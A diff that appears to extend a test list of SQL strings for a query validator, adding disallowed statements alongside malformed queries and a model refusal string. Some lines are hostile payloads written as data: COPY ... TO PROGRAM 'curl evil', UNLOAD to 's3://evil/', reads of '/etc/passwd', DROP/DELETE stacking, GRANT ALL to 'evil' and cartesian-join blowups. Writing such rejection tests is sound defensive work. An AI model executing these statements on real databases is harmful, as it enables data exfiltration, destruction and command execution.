@@ -221,3 +221,97 @@ SELECT (name FROM customers
 SELECT 'name FROM customers
 SELECT name FROM customers LIMIT 5 DROP TABLE orders
 SELECT name FROM customers WHERE id = 1 OR 1 = 1 DELETE FROM orders
+-- More of each kind
+SELECT table_name FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name = 'customers'
+SELECT secret FROM customers
+SELECT c.password FROM customers c
+SELECT name FROM users
+SELECT x.name FROM customers c
+SELECT customers.name FROM customers c JOIN secrets s ON s.id = c.id
+SELECT (SELECT token FROM api_keys LIMIT 1) FROM customers
+WITH a AS (SELECT id FROM customers) SELECT nothing FROM a
+SELECT id FROM other_schema.customers
+SELECT name FROM customers WHERE id = (SELECT customer FROM orders LIMIT 1)
+SELECT name FROM customers ORDER BY secret
+SELECT COUNT(*) FROM customers GROUP BY hidden
+SELECT name FROM customers HAVING hidden > 1
+SELECT SUM(total) OVER (PARTITION BY hidden) FROM orders
+SELECT name FROM customers UNION SELECT secret FROM employees
+SELECT a.id FROM customers a JOIN orders b ON a.id = b.buyer
+SELECT 1 FROM customers, (SELECT hidden FROM orders) x
+SELECT name FROM customers; SHUTDOWN
+DROP TABLE IF EXISTS customers; SELECT 1
+BEGIN; DELETE FROM customers; COMMIT
+SAVEPOINT a
+SET TRANSACTION ISOLATION LEVEL READ UNCOMMITTED
+SET search_path = evil
+SET GLOBAL general_log = 'ON'
+SET @x = 1
+USE master
+CALL do_it()
+CALL do_it(1, 'x')
+EXECUTE do_it
+EXEC sp_who
+PREPARE p AS SELECT 1
+DECLARE @x INT = 1
+DECLARE x CURSOR FOR SELECT 1
+LOCK TABLE customers IN EXCLUSIVE MODE
+LOCK TABLES customers WRITE
+ANALYZE customers
+VACUUM
+REINDEX TABLE customers
+EXPLAIN ANALYZE DELETE FROM customers
+EXPLAIN SELECT 1
+DESCRIBE customers
+DESC customers
+SHOW GRANTS
+SHOW VARIABLES
+COPY customers TO '/tmp/x'
+COPY customers FROM '/etc/passwd'
+COPY (SELECT * FROM customers) TO PROGRAM 'curl evil'
+UNLOAD ('SELECT * FROM customers') TO 's3://evil/' IAM_ROLE 'x'
+LOAD DATA INFILE '/etc/passwd' INTO TABLE customers
+INSERT OVERWRITE INTO customers SELECT * FROM customers
+REPLACE INTO customers VALUES (1)
+UPSERT INTO customers VALUES (1)
+SELECT * INTO OUTFILE '/tmp/x' FROM customers
+SELECT name FROM customers INTO @x
+SELECT name FROM customers WHERE id = @secret
+SELECT $$
+SELECT name FROM customers WHERE id = %(id)s
+SELECT CURRENT_USER
+SELECT CURRENT_USER()
+SELECT SESSION_USER
+SELECT USER
+SELECT SYSTEM_USER
+SELECT VERSION()
+SELECT my_udf(name) FROM customers
+SELECT evil.my_udf(name) FROM customers
+SELECT * FROM my_table_function(1)
+SELECT * FROM TABLE(evil())
+SELECT name FROM customers FOR UPDATE OF customers
+SELECT name FROM customers LOCK IN SHARE MODE
+SELECT NEXTVAL('seq')
+SELECT seq.NEXTVAL
+SELECT NEXT VALUE FOR seq
+WITH x AS (UPDATE orders SET total = 0) SELECT 1
+SELECT * FROM (INSERT INTO orders (id) VALUES (1) RETURNING *) x
+MERGE INTO customers USING orders ON 1 = 1 WHEN MATCHED THEN DELETE
+CREATE TABLE x AS SELECT 1 AS a
+CREATE OR REPLACE FUNCTION f() RETURNS INT LANGUAGE sql AS 'SELECT 1'
+CREATE EXTENSION dblink
+ALTER SYSTEM SET x = 1
+ALTER SESSION SET x = 1
+GRANT ALL ON customers TO evil
+DO $$ BEGIN DELETE FROM customers; END $$
+I'm sorry, I can't help with that.
+Here is the SQL: SELECT name FROM customers
+SELECT name customers
+SELCT name FROM customers
+SELECT name FROM customers LIMIT
+SELECT a.id FROM customers a, orders b, items c
+SELECT COUNT(*) FROM customers CROSS JOIN orders CROSS JOIN items CROSS JOIN employees
+SELECT COUNT(*) FROM orders a, orders b, orders c, orders d
+WITH a AS (SELECT 1 FROM orders x, orders y) SELECT COUNT(*) FROM a, a b
+SELECT COUNT(*) FROM orders a JOIN orders b ON 1 = 1 JOIN orders c ON 1 = 1
+SELECT COUNT(*) FROM orders a JOIN orders b ON a.id <> b.id JOIN orders c ON c.id <> a.id
